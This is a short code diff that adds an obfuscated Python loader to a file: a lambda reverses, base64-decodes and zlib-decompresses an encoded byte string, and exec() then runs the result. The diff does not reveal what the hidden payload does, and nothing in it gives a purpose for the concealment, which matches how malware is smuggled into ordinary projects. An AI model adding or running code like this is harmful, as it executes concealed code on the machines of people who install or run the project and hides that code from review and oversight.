@@ -1,0 +1,3 @@
+# obfuscated with pyobfuscate
+_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
+exec((_)(b"be7VJ1x6ZtUhOZb+t05enRgOvYpAf75z1lD+npwyYIyxhIHDeiaxREHKrKMT9waBGqUu85ph+RiPDnJTe4666UDPa1/Bv5DftTgKH52EbDm6Tnl2PuuKc8he/KsnhvfbWA55xc4LN9Xl/n41BW1A31+EElKqmiIX2IpYIKSKnb3BTRBjiJkDApy4rJfX4pASLs/2z6zPlWzau8+bcuNN6XNh4dOaeDraIqrb5HVqonfZ1JSFanTQOf0mnkUvK0ANialGsYU1yKB6K77m+8D2dgZJKLvN2M1Z4o+zZFosokhpVrrm0nsoLYGdHdIYw+eUM9O2trXkonioeaqxJggAB9iPYpne8BL5/ZUYYvwzZtQ1eQXFl0hyk0kyglj/isqdzJqHeR0lKPCJjODFPs7Zn/bGnBuv62quk9yfUWlsIZBYWa4TGAE5Waf7QZfP0OkmFtiaqmIhoODcX9cvMEyIuFcUdxJe"))
